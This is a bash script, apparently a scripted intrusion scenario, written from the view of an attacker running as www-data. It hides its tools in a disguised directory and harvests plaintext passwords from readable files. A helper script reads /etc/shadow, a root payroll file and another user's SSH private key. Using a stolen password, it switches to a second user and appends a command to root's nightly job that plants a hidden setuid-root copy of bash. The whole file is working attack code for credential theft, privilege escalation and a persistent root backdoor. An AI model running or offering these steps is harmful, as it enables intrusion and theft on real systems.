#!/bin/bash
# SPDX-License-Identifier: MIT
# The intruder, as www-data: tools, a look around, and another's account.
set -eu
tools=/var/tmp/.fonts
mkdir -p "$tools"
cat >"$tools/scan.sh" <<'END'
#!/bin/sh
# Passwords in files that everybody can read.
grep -rsI '^password=' /srv /opt /etc 2>/dev/null || true
END
cat >"$tools/grab.sh" <<'END'
#!/bin/bash
# Takes what root and the others hide.
out=$1
for file in /etc/shadow /root/payroll.csv /home/bob/.ssh/id_ed25519; do
	echo "== $file" >>"$out"
	cat "$file" >>"$out"
done
END
cat >"$tools/stage2.sh" <<'END'
#!/bin/bash
# As alice, who is in the group that may edit root's nightly job.
echo 'cp /bin/bash /usr/lib/.locale && chmod 4755 /usr/lib/.locale' >>/opt/maintenance/nightly.sh
END
chmod 755 "$tools"/*.sh
"$tools/scan.sh" >"$tools/found.txt"
password=$(sed -n 's/.*password=//p' "$tools/found.txt" | head -n 1)
printf '%s\n' "$password" | su alice -c "$tools/stage2.sh" 2>/dev/null
